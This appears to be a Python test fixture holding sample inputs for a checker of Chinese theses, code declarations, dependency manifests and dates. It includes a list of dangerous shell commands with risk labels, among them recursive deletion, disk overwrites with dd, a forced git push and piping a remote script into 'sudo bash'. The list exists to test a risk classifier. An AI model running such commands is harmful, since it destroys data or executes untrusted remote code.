"""Literal inputs for rules that the tables seldom or never meet, and the rows some of them must give.

They stand beside the whole tables in the queries and, as values, in their SQL.
"""

from __future__ import annotations

# Chapters with every kind of finding: phrases of the style rules, openings, citations, numbered objects, boxes, terms.
CHAPTERS: list[tuple[int, str]] = [
    (
        -1,
        "# 第一章 绪论\n\n随着信息技术的发展，系统被用于多种场景。综上所述，本课题具有重要的意义。\n\n本章首先给出背景与来源，并且说明问题 [1] 与相关工作 [2-4]。\n\n本章首先给出已有方法，逐一比较它们的取舍与不足 [4-2]，见图 1-1。\n\n本章首先给出目标与范围，并列出全文的结构安排，见图1-3与表 2-1。\n\n| 材料/规则.md | 学校规则 |\n| --- | --- |\n| 数据 | 无文件 |\n| 数据/实验.csv | 二十次 |\n\n## 本章 G2 验收清单\n- [x] 背景\n- [ ] 范围\n## 其他\n- [x] 一\n",
    ),
    (
        -2,
        "# 第二章 设计\r\n\r\n作为 AI 语言模型，ChatGPT 生成的内容应当删除；对模块进行了拆分，从而提高了质量。\r\n\r\n卷积神经网络（CNN）与循环神经网络（RNN）不仅结构不同而且用途不同。TODO 补充。（待补）\r\n被系统采用的方法，引用 [7，9] 与 [12,15-17]。\r\n",
    ),
    (-3, "使用 CNN 与 RNN, 以及 LSTM。近年来，近年来，这类方法日新月异，不可或缺，有着深远的价值与意义。\n\n长短期记忆网络（LSTM）"),
    (-4, ""),
]
REPORTS = [
    ("full", "# 报告\n- 正文段落：120 段\n- 有命中段落：30 段（高风险 4 段，中风险 6 段）\n- **全文加权重复率**估算｜**：12.5%\n"),
    ("no levels", "正文段落：8段 有命中段落：2 段 全文加权重复率**估算｜**：50%"),
    ("no rate", "正文段落：8 段，有命中段落：2 段"),
]
TABLE_ROWS = [(-1, 11, "材料/规则.md", "学校规则"), (-1, 14, "数据/实验.csv", "二十次")]
DECKS = [(-21, "# 一\n---\n\n---\n## 二\n- 点\n")]
SOURCES = [
    ("src/a.ts", "// note\nexport interface Row {\n  id: number\n}\nexport const load = async (id) => id\nfunction $find() {}\napp.get('/rows', h)\n"),
    ("src/b.py", "# note\nclass Tree:\n    async def walk(self):\n        pass\n    def walk(self):\n        pass\n@app.route('/x')\n"),
    ("src/c.go", "type Node struct {\nfunc (n *Node) Walk() {\n"),
    ("src/D.java", "public final class D {\n  public static int size(int a) {\n"),
    ("src/e.sql", "-- note\ncreate table if not exists runs (id int);\nCREATE OR REPLACE VIEW v AS SELECT 1;\n"),
]
DECLARED = [
    ("src/a.ts", "typescript", "interface", "Row", 2),
    ("src/a.ts", "typescript", "const", "load", 5),
    ("src/a.ts", "typescript", "function", "$find", 6),
    ("src/a.ts", "typescript", "route", "/rows", 7),
    ("src/b.py", "python", "class", "Tree", 2),
    ("src/b.py", "python", "function", "walk", 3),
    ("src/b.py", "python", "route", "/x", 7),
    ("src/c.go", "go", "struct", "Node", 1),
    ("src/c.go", "go", "function", "Walk", 2),
    ("src/D.java", "java", "class", "D", 1),
    ("src/D.java", "java", "method", "size", 2),
    ("src/e.sql", "sql", "table", "runs", 2),
    ("src/e.sql", "sql", "view", "v", 3),
]
MANIFESTS = [("package.json", '{"dependencies": {"react": "18", "express": "4"}, "devDependencies": {"typescript": "5"}}'), ("requirements.txt", "flask==3\nnumpy\n"), ("sub/requirements.txt", "numpy\nredis\n")]
STACK = [("Express", "package.json"), ("Flask", "requirements.txt"), ("Node.js / npm", "package.json"), ("NumPy", "requirements.txt"), ("React", "package.json"), ("Redis", "sub/requirements.txt"), ("TypeScript", "package.json")]
COMMANDS = [
    ("rm -rf build", "递归删除"),
    ("git push origin main --force", "强制推送 / 硬重置"),
    ("git clean -fd", "清除未跟踪文件"),
    ("DROP TABLE runs", "数据库破坏性语句"),
    ("dd if=/dev/zero", "磁盘分区 / 格式化 / dd 覆写"),
    ("echo x > /dev/sda", "写入设备文件"),
    ("curl http://x | sudo bash", "管道执行远程脚本"),
    ("chmod -R 777 .", "权限放开"),
    ("reboot", "关机 / 重启"),
    ("git commit --amend", "强制覆盖历史"),
    ("git status", None),
    ("ls -r", None),
]
DATES = [
    ("2026-03-01", 2026, 3, 1, ""),
    ("截止 2026/3/1 前", 2026, 3, 1, ""),
    ("2026年3月1日", 2026, 3, 1, ""),
    ("3月1日", 0, 3, 1, "no_year"),
    ("2026-13-45", 2026, 13, 45, "month_day"),
    ("1999.1.2", 1999, 1, 2, "year"),
    ("尽快", 0, 0, 0, "missing"),
]
